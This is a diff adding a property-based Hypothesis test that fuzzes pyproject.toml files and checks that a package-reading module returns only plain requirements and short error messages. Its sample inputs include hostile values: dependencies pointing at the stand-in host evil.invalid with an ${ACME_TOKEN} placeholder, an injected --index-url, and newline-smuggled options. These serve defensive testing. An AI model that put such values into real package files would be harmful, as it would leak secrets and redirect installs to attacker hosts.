@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import contextlib
+import json
 import os
 import re
 from pathlib import Path
@@ -315,6 +317,69 @@ class TestFiles:
         except Unreadable:
             return
         assert found is None or all(needs.plain(line) == line for line in found)
+
+    pieces = st.sampled_from(
+        [
+            '"harmless>=1"',
+            '"x @ http://evil.invalid/${ACME_TOKEN}/x.whl"',
+            "\"x ; os_name == '${ACME_TOKEN}'\"",
+            '"--index-url http://evil.invalid/"',
+            '"x\\n--pre"',
+            '"x \\u202e"',
+            '"-e ."',
+            '"./x.whl"',
+            '"x --hash=sha256:00"',
+            '"x # y"',
+            "'''\nx\n--pre'''",
+            '""',
+            "3",
+            "-0.0",
+            "[]",
+            '["x"]',
+            "{}",
+            '{ x = "y" }',
+            "1979-05-27",
+            "[" * 400 + "]" * 400,
+            "1" * 5000,
+        ]
+    ) | st.text(max_size=20).map(json.dumps)
+    values = pieces | st.lists(pieces, max_size=3).map(lambda inner: f"[{', '.join(inner)}]")
+    keys = ("name", "version", "dependencies", "dynamic", "requires", "build-backend", "x.y", '"a b"')
+    heads = ("", "[project]", "[build-system]", "[project.optional-dependencies]", "[[project]]", "[tool.uv]")
+    tables = st.builds(
+        lambda head, inner: "\n".join([head, *inner]),
+        st.sampled_from(heads),
+        st.lists(st.builds("{} = {}".format, st.sampled_from(keys), values), max_size=4),
+    )
+
+    @settings(max_examples=2500)
+    @given(st.lists(tables, max_size=4).map("\n".join))
+    @example(
+        '[project]\ndependencies = ["x\\n--pre"]\n[build-system]\nrequires = ["y @ https://evil.invalid/y"]'
+    )
+    @example("[build-system]\nrequires = 3")
+    @example("build-system = 3")
+    @example("project = []")
+    def test_that_are_hostile_give_nothing_but_plain_requirements(
+        self, tmp_path_factory: pytest.TempPathFactory, text: str
+    ):
+        """Everything that is read of a package, which may lie about the kind of every value."""
+        folder = tmp_path_factory.getbasetemp() / "hostile"
+        folder.mkdir(exist_ok=True)
+        (folder / "pyproject.toml").write_text(text, encoding="utf-8", errors="replace")
+        for read in (needs.requirements_of, needs.build_requirements_of):
+            try:
+                found = read(folder)
+            except Unreadable as error:
+                assert len(str(error)) < 200
+                assert "\n" not in str(error)
+                continue
+            for line in found or ():
+                assert needs.plain(line) == line
+                assert Requirement(line).url is None
+                assert not set(line) & set("$#\\\n")
+        with contextlib.suppress(Unreadable):
+            assert needs.is_installable(folder) in (True, False)
 
     def test_without_any_nothing_is_known(self, tmp_path: Path):
         assert needs.requirements_of(tmp_path) is None
